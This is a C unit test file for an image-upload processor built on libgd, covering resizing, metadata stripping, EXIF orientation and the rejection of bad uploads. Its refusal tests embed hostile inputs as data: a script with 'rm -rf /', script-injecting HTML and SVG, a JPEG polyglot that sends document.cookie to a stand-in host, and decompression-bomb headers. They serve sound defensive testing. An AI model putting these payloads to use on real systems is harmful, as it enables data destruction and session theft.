/* test_image.c: unit tests for cgi-bin/core/image.c. Every picture is made here with libgd:
 * landscape, portrait, exactly 16:9, smaller than a cover, the minimum, too small; JPEG, PNG
 * (with an alpha channel) and WebP. Each output must decode as a JPEG of the promised size and
 * carry no EXIF, GPS or libgd comment. EXIF orientations 3, 6 and 8 (big- and little-endian) turn
 * the picture upright. Refused: a shell script, HTML and SVG with a .jpg-like name, a truncated
 * JPEG and PNG, a JPEG whose scan is an HTML page, a PNG whose IDAT is corrupt (with and without a
 * matching CRC), an animated WebP, headers declaring 50000×50000, 7000×7000, a 12001-pixel side
 * (answered before decoding, fast, and in a child whose address space could not hold the decoded
 * picture), more than 10 MiB of input. It must never read or write files. */
#include <gd.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <zlib.h>

#include "image.h"
#include "tap.h"

#if defined(__SANITIZE_ADDRESS__)
#define UNDER_ASAN 1
#elif defined(__has_feature)
#if __has_feature(address_sanitizer)
#define UNDER_ASAN 1
#endif
#endif
#ifndef UNDER_ASAN
#define UNDER_ASAN 0
#endif

struct blob {
        unsigned char *p;
        size_t n;
};

enum fmt { F_JPEG, F_PNG, F_WEBP };

/* Quadrants: top-left red, top-right green, bottom-left blue, bottom-right yellow. */
static gdImagePtr quadrants(int w, int h)
{
        gdImagePtr im = gdImageCreateTrueColor(w, h);
        gdImageFilledRectangle(im, 0, 0, w / 2 - 1, h / 2 - 1, gdTrueColor(255, 0, 0));
        gdImageFilledRectangle(im, w / 2, 0, w - 1, h / 2 - 1, gdTrueColor(0, 255, 0));
        gdImageFilledRectangle(im, 0, h / 2, w / 2 - 1, h - 1, gdTrueColor(0, 0, 255));
        gdImageFilledRectangle(im, w / 2, h / 2, w - 1, h - 1, gdTrueColor(255, 255, 0));
        return im;
}

static struct blob encode_as(gdImagePtr im, enum fmt f)
{
        int size = 0;
        void *d = f == F_JPEG  ? gdImageJpegPtr(im, &size, 90)
                  : f == F_PNG ? gdImagePngPtr(im, &size)
                               : gdImageWebpPtrEx(im, &size, 90);
        struct blob b = {malloc((size_t)size), (size_t)size};
        memcpy(b.p, d, (size_t)size);
        gdFree(d);
        return b;
}

static struct blob make(int w, int h, enum fmt f)
{
        gdImagePtr im = quadrants(w, h);
        struct blob b = encode_as(im, f);
        gdImageDestroy(im);
        return b;
}

static struct blob copy_of(const void *p, size_t n)
{
        struct blob b = {malloc(n ? n : 1), n};
        memcpy(b.p, p, n);
        return b;
}

static struct blob text(const char *s)
{
        return copy_of(s, strlen(s));
}

static void put_be32(unsigned char *p, uint32_t v)
{
        p[0] = (unsigned char)(v >> 24), p[1] = (unsigned char)(v >> 16);
        p[2] = (unsigned char)(v >> 8), p[3] = (unsigned char)v;
}

static double now(void)
{
        struct timespec ts;
        clock_gettime(CLOCK_MONOTONIC, &ts);
        return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

/* Both outputs decode as JPEGs of the sizes img_out claims, which are the wanted ones, and carry
 * nothing of the upload's metadata. */
static void check_out(const struct img_out *o, uint32_t cw, uint32_t ch, uint32_t tw, uint32_t th,
                      const char *name)
{
        char label[200];
        snprintf(label, sizeof label, "%s: cover %ux%u, thumb %ux%u", name, cw, ch, tw, th);
        ok(o->cover_w == cw && o->cover_h == ch && o->thumb_w == tw && o->thumb_h == th, "%s",
           label);
        if (o->cover_w != cw || o->cover_h != ch || o->thumb_w != tw || o->thumb_h != th)
                printf("#   got cover %ux%u, thumb %ux%u\n", o->cover_w, o->cover_h, o->thumb_w,
                       o->thumb_h);
        gdImagePtr c = o->cover ? gdImageCreateFromJpegPtrEx((int)o->cover_len, o->cover, 0) : NULL;
        gdImagePtr t = o->thumb ? gdImageCreateFromJpegPtrEx((int)o->thumb_len, o->thumb, 0) : NULL;
        ok(c && gdImageSX(c) == (int)cw && gdImageSY(c) == (int)ch,
           "%s: the cover decodes as a JPEG of that size", name);
        ok(t && gdImageSX(t) == (int)tw && gdImageSY(t) == (int)th,
           "%s: the thumbnail decodes as a JPEG of that size", name);
        if (c)
                gdImageDestroy(c);
        if (t)
                gdImageDestroy(t);
        int clean = 1;
        for (int i = 0; i < 2; i++) {
                const unsigned char *p = i ? o->thumb : o->cover;
                size_t n = i ? o->thumb_len : o->cover_len;
                if (!p || n < 4 || p[0] != 0xFF || p[1] != 0xD8 || memmem(p, n, "Exif", 4) ||
                    memmem(p, n, "gd-jpeg", 7) || memmem(p, n, "SECRET-GPS", 10))
                        clean = 0;
        }
        ok(clean, "%s: no Exif, GPS or libgd comment in either output", name);
}

/* Runs img_cover on b (then frees b) and checks the result. */
static void expect_ok(struct blob b, uint32_t cw, uint32_t ch, uint32_t tw, uint32_t th,
                      const char *name)
{
        struct img_out o;
        char err[32] = "x";
        enum img_status st = img_cover(b.p, b.n, &o, err, sizeof err);
        if (!is_str(img_status_code(st), "ok", name))
                printf("#   err: %s\n", err);
        is_str(err, "", "err is empty on success");
        check_out(&o, cw, ch, tw, th, name);
        img_out_free(&o);
        free(b.p);
}

static void expect_err(struct blob b, enum img_status want, const char *name)
{
        struct img_out o;
        char err[32] = "";
        enum img_status st = img_cover(b.p, b.n, &o, err, sizeof err);
        is_str(img_status_code(st), img_status_code(want), name);
        ok(strcmp(err, img_status_code(want)) == 0 && !o.cover && !o.thumb && o.cover_len == 0,
           "%s: err holds the code and no output is left", name);
        img_out_free(&o);
        free(b.p);
}

static void test_sniff(void)
{
        struct blob j = make(64, 36, F_JPEG), p = make(64, 36, F_PNG), w = make(64, 36, F_WEBP);
        ok(img_sniff(j.p, j.n) == IMG_JPEG, "a JPEG sniffs as JPEG");
        ok(img_sniff(p.p, p.n) == IMG_PNG, "a PNG sniffs as PNG");
        ok(img_sniff(w.p, w.n) == IMG_WEBP, "a WebP sniffs as WebP");
        ok(img_sniff(j.p, 2) == IMG_UNKNOWN, "FF D8 alone is unknown");
        ok(img_sniff(p.p, 7) == IMG_UNKNOWN, "seven bytes of the PNG signature are unknown");
        ok(img_sniff("RIFF\x10\0\0\0WAVEfmt ", 16) == IMG_UNKNOWN, "a RIFF WAVE is unknown");
        ok(img_sniff("#!/bin/sh\n", 10) == IMG_UNKNOWN, "a script is unknown");
        ok(img_sniff(NULL, 10) == IMG_UNKNOWN, "NULL is unknown");
        is_str(img_media_type(IMG_WEBP), "image/webp", "WebP's media type");
        ok(img_media_type(IMG_UNKNOWN) == NULL, "unknown has no media type");
        is_str(img_status_code(IMG_TOO_LARGE_PIXELS), "too_large_pixels", "a machine code");

        struct img_info info;
        ok(img_probe(j.p, j.n, &info) == IMG_OK && info.width == 64 && info.height == 36 &&
               info.orientation == 1,
           "img_probe reads a JPEG's SOF");
        ok(img_probe(p.p, p.n, &info) == IMG_OK && info.width == 64 && info.height == 36,
           "img_probe reads a PNG's IHDR");
        ok(img_probe(w.p, w.n, &info) == IMG_OK && info.width == 64 && info.height == 36,
           "img_probe reads a WebP's VP8 frame header");
        gdImagePtr im = quadrants(50, 30);
        int size = 0;
        void *ll = gdImageWebpPtrEx(im, &size, gdWebpLossless);
        ok(img_probe(ll, (size_t)size, &info) == IMG_OK && info.width == 50 && info.height == 30,
           "img_probe reads a lossless WebP's VP8L header");
        gdFree(ll);
        gdImageDestroy(im);
        ok(img_probe(j.p, j.n - 2, &info) == IMG_CORRUPT, "a JPEG without its EOI is corrupt");
        ok(img_probe(w.p, w.n - 1, &info) == IMG_CORRUPT,
           "a WebP shorter than its RIFF size is corrupt");
        free(j.p), free(p.p), free(w.p);
}

static void test_sizes(void)
{
        expect_ok(make(2400, 1800, F_JPEG), 1200, 675, 480, 270, "a 2400x1800 JPEG");
        expect_ok(make(1500, 2000, F_PNG), 1200, 675, 480, 270, "a 1500x2000 portrait PNG");
        expect_ok(make(1920, 1080, F_WEBP), 1200, 675, 480, 270, "a 1920x1080 WebP");
        expect_ok(make(800, 600, F_PNG), 800, 450, 480, 270, "an 800x600 PNG is not upscaled");
        expect_ok(make(400, 300, F_WEBP), 400, 225, 400, 225, "a 400x300 WebP is kept at its size");
        expect_ok(make(1200, 675, F_JPEG), 1200, 675, 480, 270, "exactly 1200x675");
        expect_ok(make(320, 180, F_JPEG), 320, 180, 320, 180, "the minimum, 320x180");
        expect_ok(make(320, 1000, F_PNG), 320, 180, 320, 180, "a tall 320x1000 strip");

        expect_err(make(319, 180, F_JPEG), IMG_TOO_SMALL, "319x180 is too small");
        expect_err(make(320, 179, F_PNG), IMG_TOO_SMALL, "320x179 is too small");
        expect_err(make(1000, 100, F_PNG), IMG_TOO_SMALL, "a 1000x100 banner is too small");
        expect_err(make(16, 16, F_PNG), IMG_TOO_SMALL, "a 16x16 icon is too small");

        /* which part survives: a 1600x900 picture is already 16:9, so its quadrants stay put */
        struct blob b = make(1600, 900, F_PNG);
        struct img_out o;
        enum img_status st = img_cover(b.p, b.n, &o, NULL, 0);
        gdImagePtr c =
            st == IMG_OK ? gdImageCreateFromJpegPtrEx((int)o.cover_len, o.cover, 0) : NULL;
        ok(c && gdImageRed(c, gdImageGetPixel(c, 20, 20)) > 200 &&
               gdImageGreen(c, gdImageGetPixel(c, 20, 20)) < 60 &&
               gdImageGreen(c, gdImageGetPixel(c, 1180, 20)) > 200 &&
               gdImageBlue(c, gdImageGetPixel(c, 20, 655)) > 200 &&
               gdImageRed(c, gdImageGetPixel(c, 1180, 655)) > 200 &&
               gdImageGreen(c, gdImageGetPixel(c, 1180, 655)) > 200,
           "the cover keeps the picture's layout (red, green / blue, yellow)");
        ok(o.src_w == 1600 && o.src_h == 900 && o.type == IMG_PNG, "img_out tells the source");
        if (c)
                gdImageDestroy(c);
        img_out_free(&o);
        img_out_free(&o);
        ok(o.cover == NULL && o.thumb == NULL, "img_out_free twice is harmless");
        free(b.p);
}

static void test_alpha(void)
{
        gdImagePtr im = gdImageCreateTrueColor(640, 360);
        gdImageAlphaBlending(im, 0);
        gdImageSaveAlpha(im, 1);
        gdImageFilledRectangle(im, 0, 0, 639, 359, gdTrueColorAlpha(0, 0, 0, gdAlphaTransparent));
        gdImageFilledRectangle(im, 0, 0, 99, 99, gdTrueColorAlpha(0, 0, 255, gdAlphaOpaque));
        struct blob b = encode_as(im, F_PNG);
        gdImageDestroy(im);
        struct img_out o;
        ok(img_cover(b.p, b.n, &o, NULL, 0) == IMG_OK, "a PNG with an alpha channel is taken");
        check_out(&o, 640, 360, 480, 270, "a 640x360 transparent PNG");
        gdImagePtr c = o.cover ? gdImageCreateFromJpegPtrEx((int)o.cover_len, o.cover, 0) : NULL;
        int mid = c ? gdImageGetPixel(c, 400, 200) : 0, corner = c ? gdImageGetPixel(c, 10, 10) : 0;
        ok(c && gdImageRed(c, mid) > 245 && gdImageGreen(c, mid) > 245 && gdImageBlue(c, mid) > 245,
           "transparent pixels become white, not black");
        ok(c && gdImageBlue(c, corner) > 200 && gdImageRed(c, corner) < 60,
           "opaque pixels keep their colour");
        if (c)
                gdImageDestroy(c);
        img_out_free(&o);
        free(b.p);
}

/* A JPEG of the quadrants with an APP1 EXIF segment after SOI: IFD0 holds the orientation and an
 * ImageDescription "SECRET-GPS 31.2304N 121.4737E" (standing in for GPS data, which must never
 * reach an output). */
static struct blob jpeg_with_exif(int w, int h, int orientation, int little_endian)
{
        struct blob j = make(w, h, F_JPEG);
        static const char secret[] = "SECRET-GPS 31.2304N 121.4737E"; /* 30 bytes with its NUL */
        unsigned char t[128];
        size_t n = 0;
        memset(t, 0, sizeof t);
#define U16(v)                                                                                     \
        do {                                                                                       \
                unsigned v_ = (v);                                                                 \
                t[n++] = (unsigned char)(little_endian ? v_ & 0xFF : v_ >> 8);                     \
                t[n++] = (unsigned char)(little_endian ? v_ >> 8 : v_ & 0xFF);                     \
        } while (0)
#define U32(v)                                                                                     \
        do {                                                                                       \
                unsigned long v32_ = (v);                                                          \
                if (little_endian) {                                                               \
                        U16(v32_ & 0xFFFF);                                                        \
                        U16(v32_ >> 16);                                                           \
                } else {                                                                           \
                        U16(v32_ >> 16);                                                           \
                        U16(v32_ & 0xFFFF);                                                        \
                }                                                                                  \
        } while (0)
        memcpy(t, little_endian ? "II" : "MM", 2);
        n = 2;
        U16(42);
        U32(8);
        U16(2); /* two entries */
        U16(0x010E);
        U16(2);                  /* ImageDescription, ASCII */
        U32(sizeof secret);      /* count */
        U32(8 + 2 + 2 * 12 + 4); /* offset of the string, after the IFD */
        U16(0x0112);
        U16(3); /* Orientation, SHORT */
        U32(1);
        U16((unsigned)orientation);
        U16(0);
        U32(0); /* no next IFD */
        memcpy(t + n, secret, sizeof secret);
        n += sizeof secret;
#undef U16
#undef U32
        size_t seglen = 2 + 6 + n;
        struct blob b = {malloc(j.n + 2 + seglen), j.n + 2 + seglen};
        b.p[0] = 0xFF, b.p[1] = 0xD8, b.p[2] = 0xFF, b.p[3] = 0xE1;
        b.p[4] = (unsigned char)(seglen >> 8), b.p[5] = (unsigned char)seglen;
        memcpy(b.p + 6, "Exif\0\0", 6);
        memcpy(b.p + 12, t, n);
        memcpy(b.p + 12 + n, j.p + 2, j.n - 2);
        free(j.p);
        return b;
}

/* Is the cover pixel at (x, y) near the colour r, g, b? */
static int near(gdImagePtr c, int x, int y, int r, int g, int b)
{
        int px = gdImageGetPixel(c, x, y);
        return abs(gdImageRed(c, px) - r) < 60 && abs(gdImageGreen(c, px) - g) < 60 &&
               abs(gdImageBlue(c, px) - b) < 60;
}

static void test_orientation(void)
{
        static const struct {
                int o, le;
                uint32_t w, h;           /* the cover's size */
                int tl[3], tr[3], bl[3]; /* upright corner colours */
        } cases[] = {
            {3, 0, 1200, 675, {255, 255, 0}, {0, 0, 255}, {0, 255, 0}},
            {6, 0, 900, 506, {0, 0, 255}, {255, 0, 0}, {255, 255, 0}},
            {8, 1, 900, 506, {0, 255, 0}, {255, 255, 0}, {255, 0, 0}},
            {1, 1, 1200, 675, {255, 0, 0}, {0, 255, 0}, {0, 0, 255}},
        };
        for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
                char name[80];
                snprintf(name, sizeof name, "EXIF orientation %d (%s)", cases[i].o,
                         cases[i].le ? "II" : "MM");
                struct blob b = jpeg_with_exif(1600, 900, cases[i].o, cases[i].le);
                struct img_info info;
                ok(img_probe(b.p, b.n, &info) == IMG_OK && info.orientation == cases[i].o,
                   "%s: img_probe reads it", name);
                ok(memmem(b.p, b.n, "SECRET-GPS", 10) != NULL, "%s: the upload carries it", name);
                struct img_out o;
                ok(img_cover(b.p, b.n, &o, NULL, 0) == IMG_OK, "%s: taken", name);
                uint32_t tw = cases[i].w >= 480 ? 480 : cases[i].w;
                uint32_t th = cases[i].w >= 480 ? 270 : cases[i].h;
                check_out(&o, cases[i].w, cases[i].h, tw, th, name);
                gdImagePtr c =
                    o.cover ? gdImageCreateFromJpegPtrEx((int)o.cover_len, o.cover, 0) : NULL;
                int x1 = (int)cases[i].w - 15, y1 = (int)cases[i].h - 15;
                ok(c && near(c, 15, 15, cases[i].tl[0], cases[i].tl[1], cases[i].tl[2]) &&
                       near(c, x1, 15, cases[i].tr[0], cases[i].tr[1], cases[i].tr[2]) &&
                       near(c, 15, y1, cases[i].bl[0], cases[i].bl[1], cases[i].bl[2]),
                   "%s: upright corners", name);
                if (c)
                        gdImageDestroy(c);
                img_out_free(&o);
                free(b.p);
        }
}

/* A PNG header (signature and IHDR only, then a junk IDAT and IEND) declaring w×h. */
static struct blob png_header(uint32_t w, uint32_t h)
{
        struct blob p = make(64, 36, F_PNG);
        put_be32(p.p + 16, w);
        put_be32(p.p + 20, h);
        put_be32(p.p + 29, (uint32_t)crc32(0, p.p + 12, 17));
        return p;
}

static size_t find(const struct blob *b, const char *s)
{
        const unsigned char *at = memmem(b->p, b->n, s, strlen(s));
        return at ? (size_t)(at - b->p) : 0;
}

static void test_refusals(void)
{
        expect_err(text("#!/bin/sh\nrm -rf / # cover.jpg\n"), IMG_NOT_IMAGE,
                   "a shell script named cover.jpg");
        expect_err(text("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
                   IMG_NOT_IMAGE, "an HTML page named cover.jpg");
        expect_err(text("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" "
                        "width=\"1200\" height=\"675\"><script>alert(1)</script></svg>"),
                   IMG_NOT_IMAGE, "an SVG named cover.jpg");
        expect_err(text("GIF89a\x01\x00\x01\x00"), IMG_NOT_IMAGE, "a GIF is not taken");
        expect_err(copy_of("", 0), IMG_NOT_IMAGE, "nothing");
        expect_err(text("\xFF\xD8\xFF\xE0<html><script>alert(1)</script></html>"), IMG_CORRUPT,
                   "JPEG magic followed by HTML");

        struct blob j = make(1600, 900, F_JPEG);
        struct blob cut = copy_of(j.p, j.n * 6 / 10);
        expect_err(cut, IMG_CORRUPT, "a JPEG cut at 60%");
        expect_err(copy_of(j.p, 200), IMG_CORRUPT, "a JPEG cut inside its headers");
        /* a polyglot: real JPEG headers, an HTML page as the scan, then EOI */
        size_t sos = 0;
        for (size_t i = 2; i + 1 < j.n; i++)
                if (j.p[i] == 0xFF && j.p[i + 1] == 0xDA) {
                        sos = i;
                        break;
                }
        size_t hdr = sos + 2 + (((size_t)j.p[sos + 2] << 8) | j.p[sos + 3]);
        const char *html = "<html><body><script>document.location='http://x/'+document.cookie"
                           "</script><p>hello hello hello hello hello hello hello hello</p>"
                           "</body></html>";
        struct blob poly = {malloc(hdr + strlen(html) + 2), hdr + strlen(html) + 2};
        memcpy(poly.p, j.p, hdr);
        memcpy(poly.p + hdr, html, strlen(html));
        poly.p[poly.n - 2] = 0xFF, poly.p[poly.n - 1] = 0xD9;
        ok(sos > 0, "the test JPEG has a scan");
        expect_err(poly, IMG_CORRUPT, "a JPEG whose scan is an HTML page");
        free(j.p);

        struct blob p = make(800, 450, F_PNG);
        size_t idat = find(&p, "IDAT");
        ok(idat > 0, "the test PNG has an IDAT");
        struct blob bad = copy_of(p.p, p.n);
        for (size_t i = idat + 20; i < idat + 60; i++)
                bad.p[i] ^= 0x5A;
        expect_err(bad, IMG_CORRUPT, "a PNG with a corrupt IDAT (CRC wrong)");
        bad = copy_of(p.p, p.n);
        uint32_t ilen = ((uint32_t)bad.p[idat - 4] << 24) | ((uint32_t)bad.p[idat - 3] << 16) |
                        ((uint32_t)bad.p[idat - 2] << 8) | bad.p[idat - 1];
        for (size_t i = idat + 4 + 2; i < idat + 4 + ilen && i < idat + 4 + 400; i++)
                bad.p[i] = (unsigned char)(i * 37);
        put_be32(bad.p + idat + 4 + ilen, (uint32_t)crc32(0, bad.p + idat, 4 + ilen));
        expect_err(bad, IMG_CORRUPT, "a PNG with a corrupt IDAT (CRC right)");
        expect_err(copy_of(p.p, p.n / 2), IMG_CORRUPT, "a PNG cut in half");
        free(p.p);

        /* an animated WebP: VP8X with the animation flag */
        static const unsigned char anim[30] = {'R',  'I', 'F', 'F', 22,   0,    0,  0,    'W', 'E',
                                               'B',  'P', 'V', 'P', '8',  'X',  10, 0,    0,   0,
                                               0x02, 0,   0,   0,   0x3F, 0x01, 0,  0xB3, 0,   0};
        expect_err(copy_of(anim, sizeof anim), IMG_NOT_IMAGE, "an animated WebP");
}

static void test_bombs(void)
{
        struct blob b = png_header(50000, 50000);
        struct img_out o;
        double t0 = now();
        enum img_status st = img_cover(b.p, b.n, &o, NULL, 0);
        double secs = now() - t0;
        is_str(img_status_code(st), "too_large_pixels", "a PNG declaring 50000x50000");
        ok(secs < 0.05, "… refused in %.4f s, before decoding", secs);
        ok(o.src_w == 50000 && o.src_h == 50000, "… and img_out tells the declared size");
        free(b.p);
        expect_err(png_header(7000, 7000), IMG_TOO_LARGE_PIXELS, "7000x7000 (49 MP)");
        expect_err(png_header(12001, 200), IMG_TOO_LARGE_PIXELS, "a side of 12001 px");
        /* 12000x3333 is under both limits: it is decoded, and the junk IDAT fails */
        expect_err(png_header(12000, 3333), IMG_CORRUPT,
                   "12000x3333 (40.0 MP) gets to the decoder");

        struct blob j = make(64, 36, F_JPEG);
        for (size_t i = 2; i + 8 < j.n; i++)
                if (j.p[i] == 0xFF && j.p[i + 1] == 0xC0) {
                        j.p[i + 5] = 0xEA, j.p[i + 6] = 0x60; /* height 60000 */
                        j.p[i + 7] = 0xEA, j.p[i + 8] = 0x60; /* width 60000 */
                        break;
                }
        expect_err(j, IMG_TOO_LARGE_PIXELS, "a JPEG whose SOF declares 60000x60000");
        static const unsigned char big_webp[30] = {
            'R', 'I', 'F', 'F', 22, 0, 0, 0, 'W', 'E',  'B',  'P', 'V',  'P',  '8',
            'X', 10,  0,   0,   0,  0, 0, 0, 0,   0xFF, 0x3F, 0,   0xFF, 0x3F, 0}; /* 16384x16384 */
        expect_err(copy_of(big_webp, sizeof big_webp), IMG_TOO_LARGE_PIXELS,
                   "a WebP canvas of 16384x16384");

        size_t huge = IMG_MAX_BYTES + 1;
        struct blob h = {calloc(1, huge), huge};
        h.p[0] = 0xFF, h.p[1] = 0xD8, h.p[2] = 0xFF;
        expect_err(h, IMG_TOO_LARGE_BYTES, "10 MiB and one byte");

        /* In a child whose address space has 64 MiB to spare (a decoded 7000x7000 picture needs
         * 196 MB), the refusal still comes: nothing big was allocated. Sanitizers and valgrind
         * reserve address space of their own, so there the checks above must do. */
        const char *pre = getenv("LD_PRELOAD");
        if (UNDER_ASAN || (pre && strstr(pre, "vgpreload")))
                return;
        fflush(stdout);
        pid_t pid = fork();
        if (pid == 0) {
                FILE *f = fopen("/proc/self/statm", "r");
                unsigned long pages = 0;
                if (!f || fscanf(f, "%lu", &pages) != 1)
                        _exit(3);
                fclose(f);
                struct blob c = png_header(7000, 7000);
                rlim_t cap = (rlim_t)pages * (rlim_t)sysconf(_SC_PAGESIZE) + (64u << 20);
                struct rlimit rl = {cap, cap};
                if (setrlimit(RLIMIT_AS, &rl) != 0)
                        _exit(4);
                struct img_out co;
                if (img_cover(c.p, c.n, &co, NULL, 0) != IMG_TOO_LARGE_PIXELS)
                        _exit(1);
                /* and the cap bites: libgd cannot make the picture decoding would need */
                gdImagePtr big = gdImageCreateTrueColor(7000, 7000);
                _exit(big ? 2 : 0);
        }
        int status = 0;
        waitpid(pid, &status, 0);
        ok(WIFEXITED(status) && WEXITSTATUS(status) == 0,
           "7000x7000 refused in a child with 64 MiB of address space to spare, where libgd "
           "cannot allocate it (exit %d)",
           WIFEXITED(status) ? WEXITSTATUS(status) : -1);
}

int main(void)
{
        test_sniff();
        test_sizes();
        test_alpha();
        test_orientation();
        test_refusals();
        test_bombs();
        return done_testing();
}
